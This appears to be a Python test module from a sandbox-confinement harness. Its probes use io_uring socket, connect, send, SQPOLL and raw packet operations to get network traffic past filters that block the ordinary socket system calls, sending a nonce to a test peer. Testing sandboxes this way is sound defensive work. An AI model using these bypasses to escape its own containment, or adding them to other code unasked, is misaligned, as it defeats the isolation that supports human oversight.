"""Escapes through io_uring, which makes sockets and connects without the system calls of those names."""

from __future__ import annotations

import ctypes
import socket
import struct

import ring
from road import NONCE, device, enter, escape, peer4, say


def _peer() -> ctypes.Array[ctypes.c_char]:
    host, port = peer4()
    packed = struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
    return ctypes.create_string_buffer(packed, len(packed))


def _connect_and_send(rings: ring.Ring, fd: int, flags: int = 0) -> None:
    name, payload = _peer(), ctypes.create_string_buffer(NONCE)
    rings.do(ring.OP_CONNECT, fd, flags=flags, off=len(name), addr=ring.address_of(name))
    rings.do(ring.OP_SEND, fd, addr=ring.address_of(payload), length=len(NONCE))
    say("connected and sent")


@escape("io_uring CONNECT")
def uring_connect() -> None:
    enter()
    sock = socket.socket()
    _connect_and_send(ring.Ring(), sock.fileno())


@escape("io_uring CONNECT in a kernel worker")
def uring_connect_worker() -> None:
    enter()
    sock = socket.socket()
    _connect_and_send(ring.Ring(), sock.fileno(), ring.SQE_ASYNC)


@escape("io_uring SQPOLL: the kernel's thread connects", needs="net")
def uring_sqpoll() -> None:
    enter()
    sock = socket.socket()
    _connect_and_send(ring.Ring(ring.SETUP_SQPOLL), sock.fileno())


@escape("io_uring SQPOLL ring made outside", needs="net")
def uring_sqpoll_outside() -> None:
    rings = ring.Ring(ring.SETUP_SQPOLL)
    enter()
    sock = socket.socket()
    _connect_and_send(rings, sock.fileno())


@escape("io_uring SOCKET, then CONNECT")
def uring_socket() -> None:
    enter()
    rings = ring.Ring()
    fd = rings.do(ring.OP_SOCKET, socket.AF_INET, off=socket.SOCK_STREAM)
    _connect_and_send(rings, fd)


@escape("io_uring SENDMSG over UDP")
def uring_udp() -> None:
    enter()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    name, payload = _peer(), ctypes.create_string_buffer(NONCE)
    ring.Ring().do(
        ring.OP_SEND, sock.fileno(), off=ring.address_of(name), addr=ring.address_of(payload), length=len(NONCE), extra=len(name)
    )
    say("sent")


@escape("io_uring SOCKET of the packet family", needs="net")
def uring_packet() -> None:
    enter()
    fd = ring.Ring().do(ring.OP_SOCKET, socket.AF_PACKET, off=socket.SOCK_DGRAM)
    sock = socket.socket(fileno=fd)
    sock.sendto(b"\x45" + bytes(19) + NONCE, (device(), 0x0800, 0, 1, b"\xff" * 6))
    say("sent")


@escape("io_uring SOCKET of the vsock family (never connected)", heard=False)
def uring_vsock() -> None:
    enter()
    ring.Ring().do(ring.OP_SOCKET, socket.AF_VSOCK, off=socket.SOCK_STREAM)
    say("made")
